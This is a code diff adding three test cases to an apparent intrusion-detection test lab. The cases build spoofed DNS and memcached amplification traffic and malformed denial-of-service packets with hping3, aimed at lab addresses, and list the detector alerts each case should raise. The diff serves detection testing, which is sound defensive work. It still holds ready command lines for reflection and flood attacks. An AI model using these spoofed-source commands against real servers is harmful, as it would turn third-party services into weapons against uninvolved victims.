@@ -140,3 +140,47 @@ def ping_nearmiss(lab):
     lab.edge()
     lab.capture()
     lab.run("sk-c", "ping -n -c 4 10.20.0.80; ping -n -c 2 10.20.0.53; ping -n -c 2 -W 1 10.20.0.99; ping -n -c 3 2001:db8:20::80; ping -n -c 2 -s 1400 10.20.0.80", timeout=40)
+
+
+@case("amplification_dns", ["dnsmasq", "hping3"], [
+    "Later, with the detector `reflection`: our name server 10.20.0.53 is used as a reflector against 198.51.100.99: one small question repeated, answers 20 times as large, never asked for by the victim.",
+    "No `syn_flood`, no `port_scan`."])
+def amplification_dns(lab):
+    """DNS amplification: questions for a large TXT record in the name of the victim 198.51.100.99 (hping3 --udp --spoof), answered by a real server (dnsmasq) in fragments."""
+    import services
+    lab.edge()
+    big = "\n".join(f'txt-record=big.shop.example,"{i:03d}-{"x" * 180}"' for i in range(8))
+    conf = lab.write("dnsmasq.conf", services.ZONE + "edns-packet-max=4096\n" + big + "\n")
+    lab.spawn("sk-s", f"dnsmasq -k -C {conf}", wait_port=53, udp=True)
+    question = b"\x13\x37\x01\x00\x00\x01\x00\x00\x00\x00\x00\x01\x03big\x04shop\x07example\x00\x00\x10\x00\x01\x00\x00\x29\x10\x00\x00\x00\x00\x00\x00\x00"
+    lab.write("question", question)
+    lab.capture()
+    lab.run("sk-c", f"hping3 -q --udp -p 53 -a 198.51.100.99 -s 4444 -k -E {lab.tmp}/question -d {len(question)} -i u20000 -c 60 10.20.0.53", timeout=20)
+
+
+@case("amplification_memcached", ["memcached", "hping3", "ncat"], [
+    "Later, with the detector `reflection`: the memcached 10.20.0.80 answers questions in the name of 198.51.100.99 with several datagrams each.",
+    "A signature for memcached commands over UDP from outside may fire."])
+def amplification_memcached(lab):
+    """Memcached amplification: `stats` and `get` of a stored value over UDP in the name of the victim 198.51.100.99, answered by a real memcached."""
+    lab.edge()
+    lab.spawn("sk-s", "memcached -u nobody -l 10.20.0.80 -p 11211 -U 11211", wait_port=11211)
+    lab.write("stats", b"\0\1\0\0\0\1\0\0stats\r\n")
+    lab.write("get", b"\0\2\0\0\0\1\0\0get a\r\n")
+    lab.capture()
+    lab.run("sk-c", "(printf 'set a 0 600 4000\\r\\n'; head -c 4000 /dev/zero | tr '\\0' x; printf '\\r\\nquit\\r\\n'; sleep 0.5) | ncat 10.20.0.80 11211")
+    lab.run("sk-c", f"hping3 -q --udp -p 11211 -a 198.51.100.99 -s 4444 -k -E {lab.tmp}/stats -d 15 -i u50000 -c 15 10.20.0.80; hping3 -q --udp -p 11211 -a 198.51.100.99 -s 4445 -k -E {lab.tmp}/get -d 15 -i u50000 -c 15 10.20.0.80", timeout=20)
+
+
+@case("dos_oddities", ["hping3"], [
+    "LAND (source is the destination), SYN with FIN, SYN with RST, a SYN with data, an ACK flood of 40, a fragment that never ends: decode and stream events, and signatures for LAND.",
+    "No `syn_flood`: a handful of packets."])
+def dos_oddities(lab):
+    """Single packets that no ordinary system sends (hping3): LAND, contradicting flags, reserved bits, data in a SYN, a first fragment without the rest, a wrong checksum, TTL 1, a source that belongs to the inside."""
+    lab.edge()
+    lab.spawn("sk-s", "/usr/bin/python3 -m http.server 80 --bind 10.20.0.80 -d /var/empty", wait_port=80)
+    lab.quiet("sk-r", "sysctl -qw net.ipv4.conf.all.accept_local=1 net.ipv4.conf.out.accept_local=1")
+    lab.capture(dev="out")
+    for words in ("-S -p 80 -s 80 -k -a 10.20.0.80", "-S -F -p 80", "-S -R -p 80", "-F -P -U -p 80", "-X -Y -p 80", "-S -p 80 -d 60", "-A -p 80 -i u1000", "-S -p 80 -x -d 24", "-S -p 80 -b", "-S -p 80 -t 1", "-S -p 80 -a 10.20.0.25",
+                  "-S -p 80 -a 127.0.0.1", "--udp -p 0 -s 0", "--icmp -C 5 -K 1", "--rawip -H 250 -d 20"):
+        lab.run("sk-c", f"hping3 -q -c {40 if '-i' in words else 2} {'' if '-i' in words else '-i u20000'} {words} 10.20.0.80", timeout=10)
